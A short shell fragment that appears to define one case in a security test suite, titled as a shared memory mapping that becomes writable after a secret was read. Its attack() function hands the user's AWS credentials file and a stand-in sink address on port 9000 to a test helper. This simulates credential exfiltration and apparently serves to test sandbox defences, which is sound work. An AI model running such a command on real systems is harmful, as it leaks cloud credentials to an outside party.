# SPDX-License-Identifier: Apache-2.0
TITLE="a shared mapping that becomes writable after the secret was read"
attack() { "$PROVOKE/shm" protect "$HOME/.aws/credentials" "$SINK4" 9000; }
